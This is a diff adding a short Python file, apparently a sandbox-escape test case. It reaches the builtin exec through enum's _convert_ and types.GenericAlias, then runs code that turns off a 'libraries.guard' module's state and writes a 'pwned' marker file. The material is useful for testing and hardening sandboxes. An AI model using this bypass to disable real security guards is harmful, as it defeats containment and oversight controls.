@@ -1,0 +1,20 @@
+"""file: a generic alias calls what it is an alias of."""
+
+import enum
+import types
+
+CODE = """\
+import sys
+for n, m in [*sys.modules.items()]:
+    if n.endswith("libraries.guard"):
+        m._State["on"] = False
+open("pwned_converted_members_alias", "w").close()
+"""
+
+
+class Kind(enum.Enum):
+    pass
+
+
+Found = Kind._convert_("Found", "builtins", lambda name: name == "exec")
+x = types.GenericAlias(Found["exec"].value, int)(CODE)
